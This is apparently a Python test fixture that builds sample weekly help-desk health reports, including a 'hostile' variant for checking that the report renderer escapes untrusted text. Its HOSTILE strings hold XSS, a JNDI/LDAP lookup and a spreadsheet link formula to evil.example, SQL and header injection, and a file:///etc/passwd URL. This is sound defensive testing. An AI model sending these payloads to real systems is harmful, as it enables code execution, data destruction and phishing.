"""A report view as a team would get it: twelve measures, six goals, signals, waiting issues."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from itertools import cycle

from sample_measures import WEEK, sample_measures

from muster.reports.model import (
    Change,
    Complaint,
    Freshness,
    GoalLine,
    Praise,
    ReportView,
    Waiting,
)  # fmt: skip

AS_OF = datetime(2026, 11, 23, 5, 0, tzinfo=UTC)
HOSTILE = (
    '<script>alert("x")</script>',
    '=HYPERLINK("http://evil.example";"click")',
    '\u202egnp.exe\u202c & "><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example} '; drop table messages; --",
    "A\x00B\x07C\r\nBcc: everyone@example.org",
    "word " * 400 + "x" * 10_000,
)
ENDLESS = "W" * 200


def sample_goals() -> tuple[GoalLine, ...]:
    """Six goals: two met, one on track, one at risk, one off track, one without a verdict."""
    objective = "Be the place students trust for IT help"

    def goal(name, kpi, status, text, value, target, expected, reason, bar):
        return GoalLine(
            name,
            objective,
            kpi,
            status,
            text,
            value,
            target,
            expected,
            "by 31 December 2026",
            "community team",
            reason,
            *bar,
        )

    return (
        goal(
            "Answer within half a working day",
            "first_response_median",
            "met",
            "Met",
            "2 h 48 min",
            "at most 4 h",
            "4 h 22 min",
            "2 h 48 min meets the target (at most 4 h).",
            (0.36, 0.46, 0.5),
        ),
        goal(
            "Answer faster at night",
            "first_response_off_hours_mean",
            "at_risk",
            "At risk",
            "6 h 33 min",
            "at most 4 h",
            "4 h 50 min",
            "The straight pace asks for 4 h 50 min by now; at the present trend it arrives only on "
            "12 January 2027.",
            (0.8, 0.46, 0.56),
        ),
        goal(
            "Leave nobody waiting",
            "response_rate",
            "off_track",
            "Off track",
            "80.8%",
            "at least 90%",
            "88.9%",
            "The straight pace asks for 88.9% by now; the present trend leads away from the "
            "target.",
            (0.808, 0.9, 0.889),
        ),
        goal(
            "Solve in four replies",
            "reply_limit_kept",
            "met",
            "Met",
            "91.9%",
            "at least 90%",
            "89%",
            "91.9% meets the target (at least 90%).",
            (0.919, 0.9, 0.89),
        ),
        goal(
            "Keep new members",
            "new_member_retention",
            "on_track",
            "On track",
            "31.7%",
            "at least 40%",
            "31.1%",
            "The straight pace asks for 31.1% by now.",
            (0.317, 0.4, 0.311),
        ),
        goal(
            "Satisfied students",
            "csat",
            "no_data",
            "No verdict",
            "–",
            "at least 85%",
            "–",
            "No whole week to measure in survey responses yet.",
            (None, None, None),
        ),
    )


def sample_waiting() -> tuple[Waiting, ...]:
    """Issues nobody has answered, longest first."""
    rows = (
        (
            "Eduroam drops every ten minutes in the library",
            "forum",
            "6 d 4 h",
            "16 Nov 2026, 23:12",
        ),
        (
            "VPN certificate expired and the page to renew it asks for VPN",
            "forum",
            "2 d 3 h",
            "20 Nov 2026, 22:40",
        ),
        (
            "@itdesk is the printer in building C ever coming back?",
            "campus-x",
            "21 h 5 min",
            "22 Nov 2026, 07:55",
        ),
        ("Cannot open the exam portal", "campus-bluesky", "3 h 40 min", "23 Nov 2026, 01:20"),
    )
    return tuple(
        Waiting(title, f"https://forum.example.edu/t/{index + 100}", source, waited, opened)
        for index, (title, source, waited, opened) in enumerate(rows)
    )


def sample_view() -> ReportView:
    """A team's weekly report for ISO week 47 of 2026."""
    measures = sample_measures()
    return ReportView(
        name="weekly",
        community="Campus IT help desk",
        note="Simulated data",
        title="Community health",
        voice="team",
        grain="week",
        period_start=WEEK,
        period_end=WEEK + timedelta(days=6),
        period_text="Week 47: 16–22 November 2026",
        as_of=AS_OF,
        subject="Better: First response, median shorter for 8 weeks (2 h 48 min); "
        "2 of 6 goals behind – week 47",
        preheader="3 of 12 measures changed beyond routine variation. "
        "4 issues wait for an answer now.",
        opening=(
            "3 of 12 measures changed beyond routine variation: 1 better, 1 worse, 1 without a "
            "good or bad direction. Everything else moved within its usual range.",
            "Of 6 goals 2 are met, 1 on track, 1 at risk, 1 off track and 1 without a verdict.",
            "Look first at New members who came back. 4 issues wait for an answer now, the longest "
            "for 6 d 4 h.",
        ),
        goals=sample_goals(),
        changes=(
            Change(
                "first_response_median",
                "First response, median",
                "better",
                "2 h 48 min: 8 weeks in a row below the earlier average of 5 h 19 min (routine was "
                "3 h 20 min to 7 h 18 min)",
            ),
            Change(
                "new_member_retention",
                "New members who came back",
                "worse",
                "31.7%: outside the routine range of 36.1% to 45.4%",
            ),
            Change(
                "messages",
                "Messages by members",
                "changed",
                "5,051: outside the routine range of 3,481 to 5,012",
            ),
        ),
        headline=measures[0],
        measures=measures,
        waiting=sample_waiting(),
        missing=(
            "Satisfied after support has no data: no source has delivered survey_responses yet.",
            "Goal “Satisfied students” has no data: no source has delivered survey_responses yet.",
            "Solved within 4 replies rests on 3 cases only, fewer than 5: read it with care.",
            "campus-x has brought nothing new since 20 Nov 2026, 06:00: "
            "the token was refused (401).",
            "forum: 12 items could not be read and wait in quarantine.",
            "Measures that serve no goal: Unanswered issues, Sentiment, mean, Messages by members.",
        ),
        freshness=(
            Freshness("forum", "discourse", "23 Nov 2026, 05:40", False, 21_480, 12, ""),
            Freshness(
                "campus-x", "x", "20 Nov 2026, 06:00", True, 6_204, 0, "the token was refused (401)"
            ),
            Freshness("campus-bluesky", "bluesky", "23 Nov 2026, 05:41", False, 2_377, 0, ""),
        ),
        events=(
            ("Semester starts", date(2026, 10, 12), date(2026, 10, 12)),
            ("Mail outage", date(2026, 9, 14), date(2026, 9, 18)),
        ),
        how_to_read=(
            "The shaded band is the routine range: the average ± 2.66 × the average change from "
            "week to week.",
            "Only points outside it, 8 weeks in a row on one side of the average, or 3 of 4 weeks "
            "nearer to the same limit than to the average are marked as signals.",
        ),
        suspected="Suspected bots: 2 accounts, 41 messages were left out of every count.",
        site_url="https://reports.example.edu/",
        unsubscribe_url="mailto:itdesk@example.edu?subject=stop",
        event_texts=("Semester starts, 12 October 2026", "Mail outage, 14–18 September 2026"),
        waiting_left="12 more wait for an answer.",
        unchanged="Nothing left its routine range.",
        praise=(
            Praise(
                "Shared folder vanished",
                "https://forum.example.edu/t/90",
                "The owner had left the university; I made you the owner.",
                "by @mirko · forum · accepted · 4 likes",
            ),
            Praise(
                "",
                "https://social.example/p/7",
                "Press the button twice, it is a known thing & works.",
                "by @anna · campus-x · 2 likes",
            ),
        ),
        complaints=(
            Complaint(
                "Printer takes my money and prints nothing",
                "https://forum.example.edu/t/91",
                'Now it "fails" with error 691.',
                "forum · 4 unhappy messages",
            ),
        ),
    )


def quiet_view() -> ReportView:
    """A week in which nothing changed, without goals, waiting issues or gaps."""
    view = sample_view()
    calm = tuple(one for one in view.measures if one.tone == "routine" and not one.is_too_few)
    return replace(
        view,
        subject="A routine week – week 47",
        preheader="No measure left its usual range.",
        opening=("A routine week: all 7 measures moved within their usual range.",),
        suspected="",
        goals=(),
        changes=(),
        headline=None,
        measures=calm,
        waiting=(),
        waiting_left="",
        praise=(),
        complaints=(),
        missing=(),
        events=(),
        event_texts=(),
        note="",
    )


def hostile_view() -> ReportView:
    """The same report with hostile text wherever a stranger's words can stand."""
    view = sample_view()
    script, formula, bidi, template, control, long = HOSTILE
    waiting = tuple(
        replace(view.waiting[0], title=text, source=script, url=url)
        for text, url in zip(
            HOSTILE,
            (
                "javascript:alert(1)",
                "data:text/html,x",
                "file:///etc/passwd",
                'https://evil.example/"><script>',
                "//evil.example",
                None,
            ),
            strict=True,
        )
    )
    measures = tuple(
        replace(one, title=HOSTILE[index % 5], definition=script + template, sql=script, why=bidi)
        for index, one in enumerate(view.measures)
    )
    goals = tuple(
        replace(one, name=name, objective=template, owner=formula)
        for one, name in zip(view.goals, cycle((script, ENDLESS)))
    )
    return replace(
        view,
        community=control + ENDLESS,
        title=script,
        note=bidi,
        subject=control,
        preheader=template,
        opening=(script, bidi, long),
        goals=goals,
        waiting=waiting,
        measures=measures,
        headline=measures[0],
        changes=tuple(replace(one, title=script, text=bidi) for one in view.changes),
        praise=(Praise(script, "javascript:alert(1)", bidi, formula), Praise("", "", long, script)),
        complaints=(Complaint(template, "data:text/html,x", script, control),),
        freshness=tuple(replace(one, source=script, problem=control) for one in view.freshness),
        missing=HOSTILE,
        events=((script, date(2026, 10, 12), date(2026, 10, 12)),),
        event_texts=(script,),
        site_url="javascript:alert(1)",
        unsubscribe_url="javascript:alert(1)",
    )
